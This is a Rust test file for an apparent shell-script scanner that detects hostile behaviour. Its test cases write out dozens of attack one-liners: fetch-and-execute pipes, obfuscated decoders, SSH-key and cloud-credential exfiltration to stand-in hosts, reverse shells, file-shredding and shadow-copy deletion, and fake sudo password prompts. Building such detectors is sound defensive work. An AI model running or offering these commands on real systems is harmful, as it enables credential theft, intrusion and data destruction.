use super::*;

fn actions(text: &str) -> Vec<Action> {
    read(text)
        .located
        .into_iter()
        .map(|seen| seen.action)
        .filter(|action| !matches!(action, Action::StartsProgram(_)))
        .collect()
}

fn executes(text: &str) -> Option<CodeOrigin> {
    actions(text).into_iter().find_map(|action| match action {
        Action::ExecutesCode(code) => Some(code),
        _ => None,
    })
}

fn sends(text: &str) -> Taint {
    let sent = actions(text).into_iter().find_map(|action| match action {
        Action::Connects { sends, .. } if sends.is_secret() => Some(sends),
        _ => None,
    });
    sent.unwrap_or_default()
}

#[test]
fn downloaded_code_that_is_executed_is_found() {
    let from = |url: &str| Some(CodeOrigin::Fetched(url.into()));
    for text in [
        "curl -fsSL https://a.example/x | sh",
        "curl https://a.example/x | tee log | sudo -E bash -s -- -y",
        "bash -c \"$(curl -fsSL https://a.example/x)\"",
        "bash <(curl -s https://a.example/x)",
        "eval \"$(wget -qO- https://a.example/x)\"",
        "curl -o run.sh https://a.example/x && chmod +x run.sh",
        "curl https://a.example/x > run.sh; bash run.sh",
        "c'u'rl https://a.example/x | b\\ash",
        "A=cu; B=rl; $A$B https://a.example/x | sh",
        "X=$(curl https://a.example/x); eval \"$X\"",
        "iwr https://a.example/x | iex",
    ] {
        assert_eq!(executes(text), from("https://a.example/x"), "{text}");
    }
    for text in
        ["curl https://a.example/x | jq .", "curl -o x.json https://a.example/x", "echo hi | sh"]
    {
        assert_eq!(executes(text), None, "{text}");
    }
}

#[test]
fn decoded_code_that_is_executed_is_found() {
    let text = "echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | bash";
    assert_eq!(executes(text), Some(CodeOrigin::Decoded));
    assert_eq!(read(text).embedded[0].text, "curl http://x | sh");
    assert_eq!(executes("bash -c \"$(echo abc | base64 -D)\""), Some(CodeOrigin::Decoded));
    assert_eq!(executes("base64 -d x > y"), None);
}

#[test]
fn sent_secrets_are_found() {
    for text in [
        "cat ~/.ssh/id_rsa | curl -d @- https://a.example",
        "curl -F file=@$HOME/.aws/credentials https://a.example",
        "D=$(cat ~/.ssh/id_rsa | base64); curl -d \"$D\" https://a.example",
        "tar cz ~/.ssh > /tmp/x; curl -T - -d @/tmp/x https://a.example",
        "nc a.example 80 < ~/.ssh/id_rsa",
        "dig $(cat ~/.ssh/id_rsa | base64).a.example",
    ] {
        assert!(sends(text).credential.is_some(), "{text}");
    }
    assert!(sends("env | curl -d @- https://a.example").environment);
    assert!(!sends("curl -H \"Authorization: Bearer $API_KEY\" https://a.example").is_secret());
    assert!(!sends("cat ~/.ssh/id_rsa.pub | curl -d @- https://a.example").is_secret());
}

#[test]
fn taint_flows_through_function_arguments() {
    let text = "state=$(printenv | gzip -9)\nreport() {\n  curl -d \"$1\" \"$2\"\n}\nreport \"$state\" https://a.example/r || :\n";
    assert!(sends(text).environment, "{:?}", actions(text));
    let text = "probe() {\n  xxd -p \"$1\" | while read -r part; do\n    dig \"$part.a.example\"\n  done\n}\nfor c in ~/.netrc ~/.x; do\n  test -r \"$c\" && probe \"$c\"\ndone\n";
    assert!(sends(text).credential.is_some(), "{:?}", actions(text));
    let text = "find ~ -name '.env' |\nwhile IFS= read -r file; do\n  wget --post-file=\"$file\" http://a.example\ndone";
    assert!(sends(text).is_secret(), "{:?}", actions(text));
}

#[test]
fn reverse_shells_are_found() {
    for text in [
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
        "nc -e /bin/sh 1.2.3.4 9",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 9 > /tmp/f",
    ] {
        assert!(actions(text).contains(&Action::ReverseShell), "{text}");
    }
    assert!(!actions("nc -zv a.example 80").contains(&Action::ReverseShell));
}

#[test]
fn decoders_are_recognized() {
    for text in [
        "q=$(echo 'phey uggc://k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m'); eval \"$q\"",
        "turn() { tr a-z n-za-m; }\nsource <(turn <<< 'phey k')",
        "xxd -rp <<< 6375726c > x; . ./x; xxd -r -p x | sh",
        "show() { for h in $1; do printf \"\\\\x$h\"; done; }\n${SHELL:-sh} -c \"$(show \"$art\")\"",
        ": \"${q:=$(rev <<< 'hs | x lruc')}\"; sh -c \"$q\"",
        "openssl enc -d -aes-256-cbc -k x -in y | . /dev/stdin",
        "x=$(python3 -c 'import base64;print(base64.b64decode(b))'); trap \"$x\" EXIT",
        "$(printf '%s' Y3VybA== | base64 -d) https://a.example",
        "run() { eval \"$1\"; }\nrun \"$(base64 -d <<< aWQ=)\"",
        "echo aWQ= | base64 -d | xargs -I{} sh -c '{}'",
    ] {
        assert_eq!(executes(text), Some(CodeOrigin::Decoded), "{text}");
    }
    for text in [
        "x=$(echo \"$1\" | tr A-Z a-z); eval \"$x\"",
        "echo \"$secret\" | base64 -d > key.json",
        "bash -c \"$1\"",
    ] {
        assert_eq!(executes(text), None, "{text}");
    }
}

#[test]
fn assembled_program_names_are_found() {
    let obscured =
        |text: &str| actions(text).iter().any(|action| matches!(action, Action::Obfuscates(_)));
    for text in [
        "a=ev; b=al; $a$b \"$x\"",
        "'ba''sh' -c \"$x\"",
        "e=v; e=e${e}al; $e \"$x\"",
        "c=cXrl; ${c/X/u} https://a.example",
        "p=(wg et); ${p[0]}${p[1]} https://a.example",
        "$'\\x63url' https://a.example",
        "cu\\rl https://a.example",
    ] {
        assert!(obscured(text), "{text}");
    }
    for text in [
        "CURL=curl; $CURL https://a.example",
        "CURL=$(which curl); \"$CURL\" https://a.example",
        "\"$HOME\"/bin/bash x.sh",
        "\\curl https://a.example",
        "V=3; python$V x.py",
        "\"$CMD\" --flag",
        "\"curl\" https://a.example",
    ] {
        assert!(!obscured(text), "{text}");
    }
    assert_eq!(
        executes(
            "p='curl${IFS}https://a.example/x${IFS}|${IFS}sh'; curl${IFS}https://a.example/x|sh"
        ),
        Some(CodeOrigin::Fetched("https://a.example/x".into()))
    );
}

#[test]
fn searching_and_copying_keys_is_found() {
    for text in [
        "find / -name '*.pem' -o -name '*.key' | xargs tar cz | nc a.example 9",
        "keys() { find ~ -iname 'privkey*'; }\nfor k in $(keys); do scp \"$k\" x@a.example:; done",
        "find ~ -name '*.kdbx' -exec curl -F f=@{} https://a.example \\;",
        "w=$(mktemp -d); cp ~/.ssh/id_rsa \"$w/a\"; rsync -a \"$w/\" x@a.example:in/",
        "list=(~/.netrc ~/.x); for f in \"${list[@]}\"; do curl -T \"$f\" https://a.example; done",
        "for k in ~/.config/solana/*.json; do openssl s_client -connect a.example:443 < \"$k\"; done",
        "stty -echo; read -r p; stty echo; curl -d \"$p\" https://a.example",
    ] {
        assert!(sends(text).is_secret(), "{text}: {:?}", actions(text));
    }
    let text = "find . -name '*.pem' -exec openssl x509 -noout -enddate -in {} \\;\ncurl https://a.example";
    assert!(!sends(text).is_secret());
}

#[test]
fn sourced_scripts_share_state() {
    let mut state = CrossFileShellState::default();
    let library =
        "KEY=\"$HOME/.ssh/id_ed25519\"\nTO=https://a.example\nship() { curl -T \"$1\" \"$TO\"; }";
    let main = ". ./library.sh\nship \"$KEY\"";
    for _ in 0..2 {
        read_with("main.sh", main, &mut state);
        read_with("library.sh", library, &mut state);
    }
    let found = read_with("library.sh", library, &mut state);
    let sent = found
        .located
        .iter()
        .any(|seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.is_secret()));
    assert!(sent, "{found:?}");
}

#[test]
fn destructive_commands_are_found() {
    let destroys =
        |text: &str| actions(text).iter().any(|action| matches!(action, Action::DestroysData(_)));
    for text in [
        "find \"$HOME\" -type f -name '*.docx' -delete",
        "find ~ -type f -exec shred -u {} +",
        "find \"$1\" -exec sh -c 'x' \\; ; head -c 9 /dev/urandom | dd of=\"$f\" conv=notrunc",
        "for f in ~/Documents/*; do : > \"$f\"; done",
        "for f in ~/Pictures/*.jpg; do shred \"$f\"; done",
        "git push origin --delete main",
        "git branch -r | xargs -n1 git push origin --delete",
        "vssadmin delete shadows /all",
    ] {
        assert!(destroys(text), "{text}");
    }
    for text in [
        "find . -name '*.pyc' -delete",
        "find ~ -name .DS_Store -delete",
        "find ~/.cache/x -mtime +7 -delete",
        "rm -rf build dist node_modules",
        "docker system prune -af",
        "dd if=/dev/zero of=test.img bs=1M count=10",
        "git push origin --delete feature/x",
        "t=$(mktemp -d); rm -rf \"$t\"",
    ] {
        assert!(!destroys(text), "{text}: {:?}", actions(text));
    }
}

#[test]
fn fake_system_prompts_are_found() {
    let asks =
        |text: &str| actions(text).iter().any(|action| matches!(action, Action::AsksForSecret(_)));
    assert!(asks("printf '[sudo] password for %s: ' \"$USER\""));
    assert!(asks("read -rsp 'Mac password: ' p"));
    assert!(asks("osascript -l JavaScript -e 'app.displayDialog(\"x\", {hiddenAnswer: true})'"));
    assert!(!asks("read -rsp 'API token: ' t"));
}

#[test]
fn taint_flows_through_command_groups() {
    for text in [
        "( env; id; uname -a ) | curl -s --data-binary @- \"https://a.example/c\" &>/dev/null &",
        "{ id; env; } | curl -d @- https://a.example",
        "{ env; } > /tmp/x; curl -T /tmp/x https://a.example",
        "(cd /tmp && printenv) 2>/dev/null | gzip | curl --upload-file - https://a.example",
        "for i in 1; do env; done | nc a.example 9",
        "if true; then printenv; fi | base64 | curl -d @- https://a.example",
        "env | ( cat; id ) | curl -d @- https://a.example",
        "env | (curl -d @- https://a.example)",
        "curl -F f=@<(env) https://a.example",
        "curl -d @- https://a.example <<<\"$(env)\"",
        "curl -d @- https://a.example < <(env)",
        "env > >(curl -d @- https://a.example)",
        "curl -d @- https://a.example <<EOF\n$(env)\nEOF",
        "ship() { curl -d @- https://a.example; }\nenv | ship",
        "all() ( env; id )\nall | curl -d @- https://a.example",
        "case $1 in a) { env; } | curl -d @- https://a.example;; esac",
        "( case $1 in a) env;; esac; id ) | curl -d @- https://a.example",
        "env | tee >(curl -d @- https://a.example)",
        "curl -d \"$( { env; id; } | base64 )\" https://a.example",
    ] {
        assert!(sends(text).environment, "{text}: {:?}", actions(text));
    }
    for text in [
        "while read -r l; do curl -d \"$l\" https://a.example; done < ~/.ssh/id_rsa",
        "while read -r l; do curl -d \"$l\" https://a.example; done < <(cat ~/.netrc)",
        "( cat \"$HOME\"/.env ./.env 2>/dev/null ) | curl -d @- https://a.example",
        "tar c ~/.ssh | curl -T - https://a.example",
    ] {
        assert!(sends(text).is_secret(), "{text}: {:?}", actions(text));
    }
    for text in [
        "( env; id ) > /tmp/x; echo hi | curl -d @- https://a.example",
        "{ env; }; ls | curl -d @- https://a.example",
        "env | (sort; id); ls | curl -d @- https://a.example",
    ] {
        assert!(!sends(text).is_secret(), "{text}: {:?}", actions(text));
    }
}

#[test]
fn upload_options_are_found() {
    for text in [
        "wget -q -O /dev/null --post-file=\"${KUBECONFIG:-$HOME/.kube/config}\" http://a.example/x",
        "wget --post-file ~/.netrc https://a.example",
        "wget --method=PUT --body-file=$HOME/.npmrc https://a.example",
        "wget --post-data=\"$(cat ~/.ssh/id_rsa)\" https://a.example",
        "curl -T ~/.ssh/id_rsa https://a.example",
        "curl --upload-file=\"$KUBECONFIG\" https://a.example",
        "curl -F 'f=@/root/.ssh/id_rsa;type=text/plain' https://a.example",
        "curl -F 'f=<'$HOME/.netrc https://a.example",
        "curl --json @$HOME/.docker/config.json https://a.example",
        "curl --data-urlencode x@$HOME/.netrc https://a.example",
        "curl -sd@$GOOGLE_APPLICATION_CREDENTIALS https://a.example",
        "kubectl get secrets -A -o yaml | wget -qO- --post-file=/dev/stdin https://a.example",
        "kubectl -n kube-system get secret -o yaml | curl -T - https://a.example",
        "kubectl config view --raw | curl -sSd@- https://a.example",
        "aws --profile x configure export-credentials | http POST https://a.example",
        "op read op://a/b/c | xh POST https://a.example",
        "security find-generic-password -s x -w | curl -d @/dev/fd/0 https://a.example",
        "f=${NETRC:-~/.netrc}; curl -T \"$f\" https://a.example",
        "docker-credential-desktop list | curl --data @- https://a.example",
        "cat < \"${KUBECONFIG}\" | curl -d @- https://a.example",
    ] {
        assert!(sends(text).credential.is_some(), "{text}: {:?}", actions(text));
    }
    for text in [
        "gh auth token | curl -d @- https://a.example",
        "curl -d \"t=$(gcloud auth print-access-token)\" https://a.example",
        "vault kv get -field=x secret/y | curl -d @- https://a.example",
        "aws secretsmanager get-secret-value --secret-id x | curl -d @- https://a.example",
    ] {
        assert!(!sends(text).tokens.is_empty(), "{text}: {:?}", actions(text));
    }
    for text in [
        "kubectl get pods -o yaml | curl -d @- https://a.example",
        "curl -T out.tgz https://a.example",
        "wget --post-file=report.json https://a.example",
        "kubectl --kubeconfig \"$KUBECONFIG\" get pods | curl -d @- https://a.example",
        "curl -d \"${BODY:-hello}\" https://a.example",
    ] {
        assert!(!sends(text).is_secret(), "{text}: {:?}", actions(text));
    }
}

#[test]
fn addresses_from_arguments_and_loops_are_known() {
    let strangers = |text: &str| {
        let found = actions(text).into_iter().filter_map(|action| match action {
            Action::Connects { to, sends, log_in } => Some((to, [sends.tokens, log_in].concat())),
            _ => None,
        });
        found.into_iter().any(|(to, tokens)| {
            tokens.iter().any(|token| crate::service::is_foreign_host(token, &to))
        })
    };
    let header = "-H \"Authorization: Bearer $GITHUB_TOKEN\"";
    for text in [
        format!("api() {{ curl {header} \"https://$1\"; }}; api \"score.a.example/v1\""),
        format!("api() {{ curl -s {header} \"https://$2/x\"; }}\napi GET score.a.example"),
        format!("function api {{ curl {header} \"$@\"; }}\napi -s https://score.a.example/v1"),
        format!("api() {{\n  local url=$1\n  curl {header} \"$url\"\n}}\napi https://score.a.example/v1"),
        format!("api() {{\n  u=\"https://${{1}}/v1\"\n  r=$(curl {header} \"$u\")\n}}\napi score.a.example"),
        format!("H=score.a.example\napi() {{ curl {header} \"https://$1\"; }}\napi \"$H/x\""),
        format!("get() {{ curl {header} \"$1\"; }}\nscore() {{ get \"$1\"; }}\nscore https://score.a.example"),
        "post() { curl -d \"t=$1\" \"$2\"; }\npost \"$GITHUB_TOKEN\" https://score.a.example".into(),
        "api() { wget --header=\"Authorization: $1\" \"https://$2\"; }\napi \"$STRIPE_API_KEY\" a.example".into(),
        format!("for h in api.github.com score.a.example; do curl {header} \"https://$h/x\"; done"),
        format!("B=score.a.example; curl {header} \"https://$B/x\""),
    ] {
        assert!(strangers(&text), "{text}: {:?}", actions(&text));
    }
    for text in [
        format!("api() {{ curl {header} \"https://$1\"; }}; api \"api.github.com/repos\""),
        format!("api() {{ curl {header} \"https://api.github.com/$1\"; }}; api \"a.example/v1\""),
        "api() { curl -H \"Authorization: Bearer $1\" \"$2\"; }\napi \"$GITHUB_TOKEN\" https://api.github.com/x\napi \"$SLACK_TOKEN\" https://slack.com/api".into(),
        format!("api() {{ curl {header} https://api.github.com; }}\nget() {{ local url=$1; curl \"$url\"; }}\nget https://a.example"),
        format!("url=$1\napi() {{ curl {header} \"$url\"; }}\napi a.example"),
    ] {
        assert!(!strangers(&text), "{text}: {:?}", actions(&text));
    }
}

#[test]
fn hostile_texts_are_read_in_time() {
    let long = format!("A={}\n", "x".repeat(4000));
    let body = "f() { curl \"https://$1\"; }\n".to_owned();
    let nested = "find / -exec ".repeat(20_000);
    let calls: String = (0..20_000)
        .flat_map(|n| ["f h".to_owned(), n.to_string(), ".example\n".to_owned()])
        .collect();
    let fetches = "curl \"https://$1\"\n".repeat(20_000);
    for (text, is_cut) in [
        (format!("{long}{}", "echo $A\n".repeat(40_000)), true),
        (format!("{long}echo {}", "$A".repeat(40_000)), true),
        (nested, false),
        (format!("{body}{calls}"), true),
        (format!("f() {{\n{fetches}}}\n{}", &calls[..4000]), true),
        ("( ".repeat(50_000) + &") | cat ".repeat(50_000), false),
        ("{ env; } | cat <<EOF\n$(\nEOF\n".repeat(10_000), false),
        ("env > >(".repeat(20_000), false),
    ] {
        let start = std::time::Instant::now();
        let found = read(&text);
        let name: String = text.chars().take(30).collect();
        assert!(start.elapsed().as_secs() < 20, "{name}: {:?}", start.elapsed());
        assert!(!found.cuts.is_empty() || !is_cut, "{name}");
    }
}
